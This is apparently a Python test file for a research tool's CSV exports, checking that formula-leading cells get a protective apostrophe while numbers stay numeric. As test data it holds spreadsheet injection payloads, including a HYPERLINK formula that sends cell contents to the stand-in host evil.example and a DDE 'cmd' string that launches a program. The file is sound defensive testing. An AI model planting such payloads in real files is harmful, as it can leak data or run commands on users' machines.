"""Issue 35 (3): no CSV CalBench writes holds a cell a spreadsheet runs as a formula.

Before: ``study run --pool-id '=HYPERLINK(...)'`` landed as it was in ``participants.csv``
and ``payments.csv``, and ``report --csv`` wrote a group named ``=1+1`` as a formula.  Now
every CSV goes through ``lab.csvfile`` (OWASP's rule: a leading ``'``), while numbers —
negative ones included — stay numbers, as pandas reads them back.
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "study"))

HOSTILE = ['=HYPERLINK("http://evil.example","click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1", "\r=1", "-", "--flag"]


def test_the_rule_changes_text_only():
    from lab.csvfile import safe_cell

    for v in HOSTILE:
        assert safe_cell(v) == "'" + v
    for v in (-3, -0.25, 2.5, 0, "-3", "-0.25", "+1e-05", "-1.5E+07", "plain", "a=b", "", " =x", None):
        assert safe_cell(v) == v


def test_report_csv_neutralises_text_and_keeps_numbers():
    import pandas as pd

    from lab.report import to_csv

    rows = [{"group": v, "games": i, "excess": -0.5 * i, "vps": -3} for i, v in enumerate(HOSTILE)]
    text = to_csv(rows, ["group", "games", "excess", "vps"])
    cells = list(csv.reader(io.StringIO(text)))[1:]
    assert [c[0] for c in cells] == ["'" + v for v in HOSTILE]
    back = pd.read_csv(io.StringIO(text))
    assert back["excess"].dtype.kind == "f" and back["excess"].tolist() == [-0.5 * i for i in range(len(HOSTILE))]
    assert back["vps"].tolist() == [-3] * len(HOSTILE)
    assert all(str(g).startswith("'") for g in back["group"]) and len(back) == len(HOSTILE)


async def test_a_pool_id_formula_is_neutralised_in_participants_and_payments(tmp_path):
    import pandas as pd

    from lab.study.export import export_study
    from lab.study.runner import StudyRunner
    from saves.store import Store
    from test_design_balance import PAY, Person, _study_with

    evil = '=HYPERLINK("http://evil.example/?"&A1,"claim your bonus")'
    _, study = _study_with(tmp_path, **PAY)
    async with await Store.open(tmp_path / "s.db") as store:
        r = StudyRunner(study, store, "P1", Person(study, "P1"))
        await r.enroll(pool_id=evil)
        await r.run()
        await export_study(study, store, tmp_path / "out")
    out = tmp_path / "out"
    for name in ("participants.csv", "payments.csv"):
        rows = list(csv.DictReader(open(out / name, newline="")))
        assert rows[0]["pool_id"] == "'" + evil, name
        back = pd.read_csv(out / name)
        assert back["pool_id"][0] == "'" + evil
    pay = pd.read_csv(out / "payments.csv")
    assert pay["total"].dtype.kind == "f"  # numbers are still numbers
    every = "".join(p.read_text() for p in out.glob("*.csv"))
    assert '\n=HYPERLINK' not in every and ',=HYPERLINK' not in every
    assert "formula" in (out / "codebook.md").read_text()
